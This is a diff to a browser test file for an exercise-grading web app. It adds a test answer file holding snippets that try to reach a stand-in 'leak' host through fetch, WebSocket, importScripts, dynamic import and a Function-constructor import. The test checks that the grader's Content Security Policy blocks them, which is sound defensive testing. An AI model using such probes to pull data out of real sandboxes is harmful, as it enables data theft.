@@ -20,11 +20,23 @@ afterAll(async () => {
   await server.close();
 });
 
+/** Asks for the network in all ways that a worker has, and is right. */
+const NETWORK = [
+  'fetch("https://example.org/leak").catch(() => 0)',
+  'try { new WebSocket("wss://example.org/leak") } catch {}',
+  'try { importScripts("https://example.org/leak.js") } catch {}',
+  'import("https://example.org/leak.js").catch(() => 0)',
+  '(() => {}).constructor("import(\'https://example.org/leak.js\').catch(() => 0)")()',
+]
+  .map((line) => `${line.replaceAll('"', '\\"')}\\n`)
+  .join('');
+
 it('an answer is judged on a sheet, kept, handed in, and the class checked again', async () => {
   const chapters = await chaptersWithExercises();
   const solution = chapters.find(({ slug }) => slug === 'ccff')?.exercises['upsample2'];
   const visit = await openPage(browser, server, {
     query: 'sheet/?exercises=ccff.upsample2,losses.giou&hide=lines',
+    expected: /Content Security Policy|content security policy/,
     context: { viewport: { width: 1280, height: 720 }, reducedMotion: 'reduce' },
   });
   const { page } = visit;
@@ -65,6 +77,7 @@ it('an answer is judged on a sheet, kept, handed in, and the class checked again
       name: 'loop.answers.json',
       text: ada.replace(/"code": ".*?"/, '"code": "for (;;) {}"'),
     },
+    { name: 'network.answers.json', text: ada.replace(/"code": "/, `"code": "${NETWORK}`) },
     { name: 'large.answers.json', text: 'x'.repeat(2_000_001) },
   ];
   await page.locator('#files').setInputFiles(
@@ -75,7 +88,7 @@ it('an answer is judged on a sheet, kept, handed in, and the class checked again
     })),
   );
   const notice = page.locator('#notice');
-  await expect.poll(() => notice.textContent()).toMatch(/^33 files opened, 4 of which/);
+  await expect.poll(() => notice.textContent()).toMatch(/^34 files opened, 4 of which/);
   expect(await page.locator('.classTable .claimed').count()).toBe(0);
   await page.getByRole('button', { name: 'Check all again' }).click();
   await expect
